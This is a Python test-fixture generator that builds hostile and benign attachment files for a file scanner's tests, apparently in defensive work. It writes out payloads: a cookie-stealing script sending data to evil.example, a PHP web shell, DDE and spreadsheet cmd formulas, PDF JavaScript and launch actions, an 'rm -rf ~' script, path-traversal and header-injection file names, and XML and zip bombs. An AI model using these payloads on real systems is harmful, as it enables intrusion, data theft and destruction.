"""Files for the proof of P19, made by code: hostile ones of forty kinds, and ordinary ones.

The same seed makes the same files. Nothing in them comes from a person, and nothing harms anybody:
where a virus is needed it is the test string that every scanner knows.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import openpyxl
from PIL import Image

from zhijia.attachments.scanner import EICAR
from zhijia.attachments.tests import files

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
PROGRAM = b"MZ\x90\x00This program cannot be run in DOS mode"
NAMES = (
    "{}.jpg", "../../../../etc/passwd{}.jpg", "..\\..\\windows\\system32\\{}.dll", "{}.jpg.exe", "{}.pdf.js",
    "\u202egpj.{}.exe", "{}\x00.html", "{}\r\nSet-Cookie: a=b.svg", "con.{}", "{}" + "x" * 300 + ".html",
    "<img src=x onerror=alert(1)>{}.png", "{}.php;.jpg", ".htaccess{}", "{}.docx", "", "%2e%2e%2f{}.jpg",
)  # fmt: skip


@dataclass(frozen=True)
class Sample:
    """A file to hand in."""

    kind: str
    name: str
    content: bytes
    marks: tuple[bytes, ...] = ()
    """What must not be in anything that people open."""
    is_virus: bool = False
    """The scanner knows it: it must never be kept as clean."""


Maker = Callable[[random.Random], Sample]


def _photo(lot: random.Random, kind: str = "JPEG") -> bytes:
    size = (lot.randint(20, 90), lot.randint(20, 90))
    return files.photo(kind, size=size, orientation=lot.randint(1, 8))


def _sample(kind: str, ending: str = "jpg", *marks: bytes, is_virus: bool = False) -> Callable[..., Maker]:
    def with_content(make: Callable[[random.Random], bytes]) -> Maker:
        def maker(lot: random.Random) -> Sample:
            name = lot.choice(NAMES).format(lot.randint(1, 999)) if lot.random() < 0.5 else f"photo.{ending}"
            return Sample(kind, name, make(lot), marks, is_virus)

        return maker

    return with_content


def _png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    points = chunk(b"IDAT", zlib.compress(bytes((width + 1) * height if width * height < 10**6 else 999)))
    middle = b"".join(chunk(kind, data) for kind, data in chunks)
    return b"\x89PNG\r\n\x1a\n" + head + middle + points + chunk(b"IEND", b"")


def _office(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if "[Content_Types].xml" not in parts:
            archive.writestr("[Content_Types].xml", files.ZIP_OOXML)
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


KINDS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
COMMAND = b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'


def _related(number: bytes, kind: bytes, target: bytes) -> bytes:
    """Return the relations of a part: one, to ``target``."""
    one = b'<Relationship Id="%s" Type="%s%s" Target="%s/>' % (number, KINDS, kind, target)
    space = b"http://schemas.openxmlformats.org/package/2006/relationships"
    return b'<Relationships xmlns="%s">%s</Relationships>' % (space, one)


LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    ) + b"]><x>&j;</x>"
)  # fmt: skip
MACRO_LETTER = {
    "word/document.xml": b"<w:document %s><w:body><w:p><w:r><w:instrText>%s</w:instrText><w:t>wages</w:t>"
    b"</w:r></w:p></w:body></w:document>" % (WORD, COMMAND),
    "word/_rels/document.xml.rels": _related(
        b"r9", b"attachedTemplate", b'http://evil.example/t.dotm" TargetMode="External"'
    ),
    "word/renamed.bin": PROGRAM,
    "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + PROGRAM,
    "word/activeX/activeX1.bin": PROGRAM,
}


def _workbook(lot: random.Random) -> bytes:
    """A workbook that works out its values by commands and calls outside, beside a program."""
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"], book.active["B1"] = 7, 8
    book.properties.creator = "Wang Xiaoming"
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].replace(b"<v>7</v>", b"<f>cmd|'/c calc'!A1</f><v>7</v>")
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        b"<v>8</v>", b'<f>WEBSERVICE("http://evil.example/")</f><v>8</v>'
    )
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink>evil.example</externalLink>"
    parts[f"xl/{lot.randint(1, 99)}.bin"] = PROGRAM
    return _office(parts)


def _moving(frames: int) -> bytes:
    pictures = [Image.new("P", (40, 40), n % 250) for n in range(frames)]
    out = io.BytesIO()
    pictures[0].save(out, "GIF", save_all=True, append_images=pictures[1:], comment=SCRIPT)
    return out.getvalue()


def _with_comment(lot: random.Random) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (30, 30), lot.randint(0, 2**24)).save(out, "JPEG", comment=b"%PDF-1.7 " + SCRIPT)
    return out.getvalue()


def _bomb(lot: random.Random) -> bytes:
    return _office({"word/document.xml": b"<x/>", "word/media/a.xml": bytes(lot.randint(30, 60) << 20)})


def _lying(lot: random.Random) -> bytes:
    content = _office({"word/document.xml": b"<x/>", "word/a.xml": b"a" * 1_000_000})
    return content.replace((1_000_000).to_bytes(4, "little"), (9).to_bytes(4, "little"))


def _script_pdf(lot: random.Random) -> bytes:
    return files.pdf(
        catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://evil.example'\\))>>"
        b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>",
        extra=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 100]"
        b"/A<</S/URI/URI(http://evil.example/)>>>>]",
        info=b"/Author(Wang Xiaoming)",
    )


PDF_MARKS = (b"JavaScript", b"launchURL", b"evil.example", b"EmbeddedFile", b"/Launch", b"cmd.exe", b"Wang")
PICTURE_MARKS = (SCRIPT, b"Wang", b"SecretCam", b"PK\x03\x04", b"evil.example", b"MZ\x90")

HOSTILE: tuple[Maker, ...] = (
    _sample("web page behind a photo", "jpg", *PICTURE_MARKS)(lambda lot: _photo(lot) + SCRIPT),
    _sample("archive behind a photo", "jpg", *PICTURE_MARKS)(lambda lot: _photo(lot) + files.archive()),
    _sample("program behind a photo", "png", *PICTURE_MARKS)(lambda lot: _photo(lot, "PNG") + PROGRAM),
    _sample("PDF and script in a comment", "jpg", *PICTURE_MARKS, b"%PDF")(_with_comment),
    _sample("place, camera and author", "jpg", *PICTURE_MARKS, b"Exif", b"GPS")(_photo),
    _sample("place in WebP", "webp", *PICTURE_MARKS, b"EXIF")(lambda lot: _photo(lot, "WEBP")),
    _sample("picture that is a script as well", "gif", b"alert(1)")(
        lambda lot: b"GIF89a/*" + bytes(lot.randint(5, 50)) + b"*/=1;alert(1)"
    ),
    _sample("a hundred frames with a comment", "gif", SCRIPT)(lambda lot: _moving(100)),
    _sample("pixel flood", "png")(lambda lot: files.pixel_bomb(lot.randint(9000, 60000), 60000)),
    _sample("pixel flood in GIF", "gif")(lambda lot: b"GIF89a" + b"\xff\xff\xff\xff\x80\0\0" + bytes(800)),
    _sample("text that unpacks to much", "png", b"bomb")(
        lambda lot: _png(4, 4, (b"zTXt", b"a\0\0" + zlib.compress(b"bomb" * (1 << 24))))
    ),
    _sample("colour profile that unpacks to much", "png", b"bomb")(
        lambda lot: _png(4, 4, (b"iCCP", b"a\0\0" + zlib.compress(b"bomb" * (1 << 23))))
    ),
    _sample("half a picture", "jpg", b"SecretCam")(lambda lot: _photo(lot)[: lot.randint(20, 700)]),
    _sample("half a PNG", "png", b"SecretCam")(lambda lot: _photo(lot, "PNG")[: lot.randint(30, 200)]),
    _sample("wrong beginning", "png")(lambda lot: b"\x89PNG\r\n\x1a\n" + _photo(lot)),
    _sample("SVG with a script", "svg")(
        lambda lot: (
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(%d)">' % lot.randint(0, 9) + SCRIPT
        )
    ),
    _sample("web page", "jpg")(lambda lot: b"<!doctype html>" + bytes(lot.randint(0, 9)) + SCRIPT),
    _sample("web page after blanks", "jpg")(lambda lot: b" \n" * lot.randint(1, 400) + b"<HTML>" + SCRIPT),
    _sample("program", "jpg")(lambda lot: PROGRAM + lot.randbytes(500)),
    _sample("Linux program", "pdf")(lambda lot: b"\x7fELF\x02\x01\x01" + lot.randbytes(500)),
    _sample("shell script", "jpg")(lambda lot: b"#!/bin/sh\nrm -rf ~ # %d\n" % lot.randint(0, 99)),
    _sample("server script", "jpg")(lambda lot: b"<?php system($_GET['%d']); ?>" % lot.randint(0, 99)),
    _sample("archive of another kind", "zip")(
        lambda lot: (
            lot.choice((b"Rar!\x1a\x07\x01\0", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08")) + lot.randbytes(300)
        )
    ),
    _sample("old office file", "doc")(lambda lot: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + lot.randbytes(600)),
    _sample("picture of a type not taken", "jpg")(
        lambda lot: lot.choice((b"BM", b"II*\0", b"\0\0\1\0", b"8BPS")) + lot.randbytes(300)
    ),
    _sample("noise", "jpg")(lambda lot: bytes([0x80 | lot.randint(0, 127)]) + lot.randbytes(400)),
    _sample("test virus", "pdf", is_virus=True)(lambda lot: EICAR),
    _sample("test virus in a letter", "docx", is_virus=True)(
        lambda lot: _office(MACRO_LETTER | {f"word/{lot.randint(1, 99)}.com": EICAR})
    ),
    _sample("oversize test virus in a letter", "docx", is_virus=True)(
        lambda lot: _office(MACRO_LETTER | {"word/a.bin": lot.randbytes(3 << 20) + EICAR})
    ),
    _sample("macros", "docx")(lambda lot: files.document(extra={"word/vbaProject.bin": PROGRAM})),
    _sample("renamed macros, links and commands", "docx", b"MZ\x90", b"DDEAUTO", b"evil.example", b"Wang")(
        lambda lot: _office(MACRO_LETTER | {f"word/{lot.randint(1, 99)}.bin": PROGRAM})
    ),
    _sample("commands in a workbook", "xlsx", b"cmd|", b"WEBSERVICE", b"evil.example", b"Wang")(_workbook),
    _sample("zip bomb", "docx")(_bomb),
    _sample("document that lies about its size", "docx")(_lying),
    _sample("a thousand million laughs", "docx", b"haha")(
        lambda lot: _office({"word/document.xml": LAUGHS, "word/a.xml": lot.randbytes(9)})
    ),
    _sample("script, program and link in a PDF", "pdf", *PDF_MARKS)(_script_pdf),
    _sample("five thousand pages", "pdf")(lambda lot: files.pdf(*[b""] * (5000 + lot.randint(0, 9)))),
    _sample("locked PDF", "pdf")(lambda lot: files.LOCKED_PDF + b"\n" * lot.randint(0, 9)),
    _sample("page as large as a house", "pdf")(
        lambda lot: files.pdf(b"1 0 0 rg 0 0 9 9 re f", box=b"0 0 14400 %d" % lot.randint(9000, 14400))
    ),
    _sample("archive behind a PDF", "pdf")(lambda lot: files.PDF + files.archive() + b"%%EOF"),
    _sample("half a PDF", "pdf")(lambda lot: files.PDF[: lot.randint(10, 300)] + b"%%EOF"),
    _sample("sound with a web page in its tag", "mp3", SCRIPT, b"Wang")(
        lambda lot: b"ID3\x03\0\0\0\0\1\0" + (SCRIPT + b"Wang").ljust(128, b"\0") + files.MP3[10:]
    ),
    _sample("sound that is a web page", "mp3", SCRIPT)(
        lambda lot: b"ID3\x03\0\0\0\0\0\0" + SCRIPT * lot.randint(1, 9)
    ),
    _sample("sound with a script in its list", "wav", SCRIPT)(
        lambda lot: files.sound() + b"LIST" + struct.pack("<I", len(SCRIPT) + 4) + b"INFO" + SCRIPT
    ),
    _sample("film that names its place", "mp4", files.PLACE_MARK, b"Wang")(lambda lot: files.film()),
)


def _letter(lot: random.Random) -> bytes:
    return files.letter(text=f"拖欠工资{lot.randint(1, 12)}个月", media=_photo(lot))


def _paper(lot: random.Random) -> bytes:
    pages = [b"BT /F 20 Tf 20 50 Td (Page %d) Tj ET" % n for n in range(lot.randint(1, 5))]
    return files.pdf(*pages, info=b"/Author(Wang Xiaoming)/Creator(SecretCam 9000)")


TELLING = (b"Wang Xiaoming", b"SecretCam", b"GPS", b"gate 3", b"tracker.example")
GOOD: tuple[tuple[str, Callable[[random.Random], bytes]], ...] = (
    ("jpg", _photo),
    ("jpg", _photo),
    ("png", lambda lot: _photo(lot, "PNG")),
    ("webp", lambda lot: _photo(lot, "WEBP")),
    ("gif", lambda lot: files.moving_picture()),
    ("pdf", _paper),
    ("docx", _letter),
    ("xlsx", lambda lot: files.workbook()),
    ("mp3", lambda lot: files.MP3),
    ("m4a", lambda lot: files.film(b"M4A ")),
    ("wav", lambda lot: files.sound()),
    ("ogg", lambda lot: files.OGG),
    ("webm", lambda lot: files.WEBM),
    ("amr", lambda lot: files.AMR),
    ("mp4", lambda lot: files.film()),
)


def hostile(count: int, seed: int) -> Iterator[Sample]:
    """Yield hostile files, every kind in turn."""
    lot = random.Random(seed)
    for number in range(count):
        yield HOSTILE[number % len(HOSTILE)](lot)


def good(count: int, seed: int) -> Iterator[Sample]:
    """Yield ordinary files that tell more than they should."""
    lot = random.Random(seed)
    for number in range(count):
        ending, make = GOOD[number % len(GOOD)]
        yield Sample(ending, f"工资条{number}.{ending}", make(lot), TELLING)
